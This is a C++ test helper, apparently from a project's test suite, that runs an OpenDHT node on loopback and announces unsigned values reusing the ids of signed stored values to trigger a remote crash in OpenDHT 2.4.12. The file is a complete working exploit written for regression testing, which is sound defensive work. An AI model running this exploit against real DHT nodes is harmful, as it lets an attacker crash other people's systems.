// A stock OpenDHT node that mounts OpenDHT 2.4.12's remote-crash attack: it announces
// unsigned values that reuse the id of a signed value already stored under the same key.
// Run as its own process so that the test process holds only parley nodes.
// Usage: dht_attacker NETWORK BOOTSTRAP_PORT KEY_HEX VALUE_ID TYPE [KEY_HEX VALUE_ID TYPE]...
#include <arpa/inet.h>
#include <atomic>
#include <cstdio>
#include <future>
#include <netinet/in.h>
#include <opendht.h>
#include <string>
#include <thread>

int main(int argc, char** argv) {
    if (argc < 6 || (argc - 3) % 3 != 0) {
        std::fprintf(stderr,
                     "usage: dht_attacker NETWORK BOOTSTRAP_PORT (KEY_HEX VALUE_ID TYPE)...\n");
        return 2;
    }
    dht::DhtRunner runner;
    dht::DhtRunner::Config cfg;
    cfg.dht_config.node_config.network = static_cast<dht::NetId>(std::stoul(argv[1]));
    cfg.threaded = true;
    sockaddr_in loopback{};
    loopback.sin_family = AF_INET;
    loopback.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    cfg.bind4 = dht::SockAddr(reinterpret_cast<sockaddr*>(&loopback), sizeof loopback);
    runner.run(cfg, {});
    runner.bootstrap("127.0.0.1", argv[2]);
    for (int i = 0; i < 200 && runner.getNodesStats(AF_INET).good_nodes < 2; ++i)
        std::this_thread::sleep_for(std::chrono::milliseconds(50));
    int sent = 0;
    for (int i = 3; i + 2 < argc; i += 3) {
        dht::InfoHash key(argv[i]);
        auto id = static_cast<dht::Value::Id>(std::stoull(argv[i + 1]));
        auto type = static_cast<dht::ValueType::Id>(std::stoul(argv[i + 2]));
        // Inline (< 600 bytes) and in value parts (> 600 bytes).
        for (std::size_t size : {16u, 2000u}) {
            auto value = std::make_shared<dht::Value>(type, dht::Blob(size, 'x'), id);
            // The callback may come after we stopped waiting (or more than once): it must not
            // touch anything on this stack.
            auto done = std::make_shared<std::promise<bool>>();
            auto once = std::make_shared<std::atomic<bool>>(false);
            auto future = done->get_future();
            runner.put(key, value, [done, once](bool ok) {
                if (!once->exchange(true))
                    done->set_value(ok);
            });
            future.wait_for(std::chrono::seconds(10));
            ++sent;
        }
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(500));
    runner.join();
    std::printf("attacker: %d puts sent\n", sent);
    return 0;
}
